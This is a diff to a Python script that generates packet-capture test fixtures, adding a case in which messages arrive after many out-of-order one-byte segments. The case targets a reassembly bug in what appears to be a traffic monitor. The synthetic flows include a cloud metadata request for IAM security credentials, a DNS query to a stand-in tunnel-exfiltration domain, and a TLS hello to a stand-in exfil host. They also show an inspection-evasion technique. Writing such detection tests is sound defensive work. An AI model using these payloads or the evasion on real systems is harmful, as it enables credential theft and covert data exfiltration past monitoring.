@@ -717,6 +717,44 @@ def gen_http_unfinished(out):
     recs.append(c.s_ack())
     write_pcap(os.path.join(out, "http_unfinished.pcap"), LINKTYPE_ETHERNET, recs)
 
+def gen_ooo_many(out):
+    """Messages sent after many one-byte segments of their own bytes, sent
+    ahead and apart (R22-F5): a Linux receiver holds thousands such and
+    reads the message whole once the rest comes in order. The flow table
+    skipped its first hole past 16 held ranges, which lost the message's
+    start: a metadata credentials request, a DNS query over TCP and a
+    ClientHello after 40 such segments, and a request after 1,100 (more
+    than the 1,024 ranges a direction holds: the rest are not held, and
+    the bytes in order fill every hole)."""
+    clk = Clock(BASE_US + 7400 * 1000000)
+    recs = []
+
+    def ahead(c, data, k, send):
+        start = c.cseq
+        for j in range(k):
+            off = 10 + 2 * j
+            recs.append(send(data[off:off + 1], step=100, advance=False, seq=start + off))
+        for i in range(0, len(data), 1400):
+            recs.append(send(data[i:i + 1400], step=100))
+        recs.append(c.s_ack())
+        recs.extend(c.close())
+    c = TcpConn(clk, CLIENT4, "169.254.169.254", 41200, 80, 1000, 5000, smac=MAC_GW)
+    recs += c.handshake()
+    ahead(c, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
+             b"Host: 169.254.169.254\r\nX-Pad: " + b"p" * 40 + b"\r\n\r\n", 40, c.c_send)
+    c = TcpConn(clk, CLIENT4, "198.51.100.53", 41201, 53, 2000, 6000, smac=MAC_GW)
+    recs += c.handshake()
+    ahead(c, lp(dns_msg(0x51a7, qd=[("mzxw6ytboi2dkmzt.k7q2x9v4.tunnel-exfil.example", 16)])),
+          40, c.c_send)
+    c = TcpConn(clk, CLIENT4, "198.51.100.44", 41202, 443, 3000, 7000, smac=MAC_GW)
+    recs += c.handshake()
+    ahead(c, client_hello("ahead.exfil.example"), 40, c.c_send)
+    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41203, 80, 4000, 8000, smac=MAC_GW)
+    recs += c.handshake()
+    ahead(c, b"GET /after/1100 HTTP/1.1\r\nHost: many.example.net\r\nX-Pad: " +
+          b"p" * 2250 + b"\r\n\r\n", 1100, c.c_send)
+    write_pcap(os.path.join(out, "ooo_many.pcap"), LINKTYPE_ETHERNET, recs)
+
 # ---------------------------------------------------------------- tls_big
 
 
@@ -1902,6 +1940,7 @@ def main():
     gen_dns_axfr(out)
     gen_http_keepalive(out)
     gen_http_unfinished(out)
+    gen_ooo_many(out)
     gen_dns_malformed(out)
     gen_links(out)
     gen_dns_ipv6(out)
